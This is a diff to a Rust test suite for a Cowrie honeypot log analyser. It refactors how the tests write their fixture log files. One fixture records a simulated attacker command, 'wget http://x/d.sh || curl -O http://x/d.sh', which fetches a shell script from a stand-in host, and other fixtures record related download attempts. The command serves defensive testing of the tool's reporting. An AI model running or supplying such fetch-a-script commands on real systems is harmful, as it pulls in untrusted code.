@@ -316,15 +316,14 @@ async fn reports_read_from_views_equal_the_inline_queries() {
 #[tokio::test]
 async fn the_same_session_id_on_two_sensors_is_two_sessions_everywhere() {
     let tmp = tempfile::tempdir().unwrap();
-    let f = tmp.path().join("twins.json");
-    std::fs::write(
-        &f,
+    let f = log_file(
+        &tmp,
+        "twins.json",
         r#"{"eventid":"cowrie.session.connect","session":"dup1","src_ip":"10.0.0.1","sensor":"a","timestamp":"2025-09-22T10:00:00Z"}
 {"eventid":"cowrie.session.connect","session":"dup1","src_ip":"10.0.0.2","sensor":"b","timestamp":"2025-09-22T10:05:00Z"}
 {"eventid":"cowrie.command.input","session":"dup1","src_ip":"10.0.0.2","sensor":"b","input":"w","timestamp":"2025-09-22T10:06:00Z"}
 "#,
-    )
-    .unwrap();
+    );
     let now = Utc::now();
     for db in both().await {
         ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
@@ -443,9 +442,9 @@ fn text_tables_fit_the_terminal_and_count_display_columns() {
 #[tokio::test]
 async fn failed_download_attempts_have_their_own_section() {
     let tmp = tempfile::tempdir().unwrap();
-    let f = tmp.path().join("failed.json");
-    std::fs::write(
-        &f,
+    let f = log_file(
+        &tmp,
+        "failed.json",
         r#"{"eventid":"cowrie.session.connect","session":"s1","src_ip":"10.0.0.1","sensor":"a","timestamp":"2025-09-22T10:00:00Z"}
 {"eventid":"cowrie.command.input","session":"s1","src_ip":"10.0.0.1","sensor":"a","input":"wget http://x/d.sh || curl -O http://x/d.sh","timestamp":"2025-09-22T10:00:01Z"}
 {"eventid":"cowrie.session.file_download.failed","session":"s1","src_ip":"10.0.0.1","sensor":"a","url":"http://x/d.sh","error":"refused","timestamp":"2025-09-22T10:00:02Z"}
@@ -454,8 +453,7 @@ async fn failed_download_attempts_have_their_own_section() {
 {"eventid":"cowrie.session.file_download_failed","session":"s2","src_ip":"10.0.0.9","sensor":"b","url":"http://y/e.sh","timestamp":"2025-09-22T12:00:00Z"}
 {"eventid":"cowrie.session.file_download","session":"s2","src_ip":"10.0.0.9","sensor":"b","url":"http://y/ok.sh","shasum":"ab","outfile":"o","timestamp":"2025-09-22T12:00:05Z"}
 "#,
-    )
-    .unwrap();
+    );
     let mut per_backend = Vec::new();
     for db in both().await {
         ingest(&db.store, std::slice::from_ref(&f), &Default::default()).await.unwrap();
